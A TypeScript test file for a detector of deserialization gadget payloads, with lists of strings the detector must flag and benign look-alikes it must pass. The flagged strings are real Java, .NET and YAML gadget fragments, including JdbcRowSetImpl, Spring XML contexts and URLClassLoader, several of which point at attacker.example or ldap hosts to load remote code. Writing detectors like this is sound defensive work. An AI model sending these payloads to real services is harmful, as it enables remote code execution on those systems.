import assert from 'node:assert/strict';
import { test } from 'node:test';
import { testDetector } from '../testing/test-detector.ts';
import { readMarks } from '../text/marks.ts';
import { gadgetType } from './gadget-type.ts';

testDetector(gadgetType, {
  detects: [
    { text: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x",}', confidence: 'high' },
    { text: '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","x":1,}', confidence: 'high' },
    { text: '{"@type":"java.net.Inet4Address","val":"attacker.example",}', confidence: 'high' },
    { text: '{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext",}', confidence: 'high' },
    {
      text: '["org.springframework.context.support.FileSystemXmlApplicationContext","http://attacker.example/a.xml",]',
      confidence: 'high',
    },
    { text: '[ "ch.qos.logback.core.db.DriverManagerConnectionSource", {"url":"jdbc:h2:mem:"},]', confidence: 'high' },
    { text: '"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"', confidence: 'high' },
    { text: "'$type':'System.Diagnostics.Process, System'", confidence: 'high' },
    { text: 'System.Diagnostics.Process, System, Version=4.0.0.0', confidence: 'high' },
    {
      text: '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]',
      confidence: 'high',
    },
    { text: '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://attacker.example/x"}', confidence: 'high' },
    { text: '!!com.mchange.v2.c3p0.JndiRefForwardingDataSource {jndiName: x}', confidence: 'high' },
    { text: '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>', confidence: 'high' },
    { text: '<void class="java.lang.ProcessBuilder"><array/></void>', confidence: 'high' },
    { text: '<sorted-set><dynamic-proxy><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>', confidence: 'high' },
    { text: '<java.util.PriorityQueue serialization="custom">', confidence: 'high' },
    { text: '<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>', confidence: 'high' },
    { text: '<javax.naming.ldap.Rdn_-RdnEntry>', confidence: 'high' },
    { text: 'com.sun.rowset.JdbcRowSetImpl', confidence: 'medium' },
  ],
  passes: [
    'import java.lang.ProcessBuilder;',
    'java.lang.NullPointerException: x\n\tat org.springframework.beans.factory.Foo.bar(Foo.java:1)',
    '{"@type":"Person","name":"Ann"}',
    '{"@context":"https://schema.org","@type":"org.schema.Person"}',
    '{"@class":"com.example.shop.Order"}',
    '["java.util.ArrayList",[1,2]]',
    '{"@class":"java.util.HashMap","a":1}',
    '<bean class="org.springframework.beans.factory.config.PropertyPlaceholderConfigurer"/>',
    '<bean id="ds" class="com.zaxxer.HikariDataSource"/>',
    '<appender name="a" class="ch.qos.logback.core.ConsoleAppender"/>',
    '<property name="driver" value="com.mysql.jdbc.Driver"/>',
    '<dependency><groupId>org.springframework</groupId></dependency>',
    '<groupId>org.apache.commons</groupId>',
    'Upgrade org.apache.commons.collections because of a gadget.',
    'com.sun.rowset is internal',
    'https://com.sun.example.org/',
    '"class": "com.example.App"',
    '{"type":"System.String, mscorlib"}',
    'using System.Diagnostics;',
    'System.Diagnostics.Process.Start',
    'new System.Net.WebClient();',
    'var p = System.Diagnostics.Process.GetCurrentProcess();',
    '<a href="http://java.net/">x</a>',
    'org.example.App',
    '!!java.util.Date 2020',
    '!!com.example.Config {a: 1}',
    '',
  ],
});

test('gadget-type: the name of a class alone is judged by the member that holds it', () => {
  const judge = (text: string, path: string, encodings: readonly string[] = []) =>
    gadgetType.detect(text, readMarks(text), { text, path, encodings })?.confidence;
  const name = 'com.sun.rowset.JdbcRowSetImpl';
  assert.equal(judge(name, "$['@type']"), 'high');
  assert.equal(judge(name, '$.body', ["json:$.a['@class']"]), 'high');
  assert.equal(judge(name, '$.body', ['json:$[0]']), 'high');
  assert.equal(judge(name, '$.message'), 'medium');
});
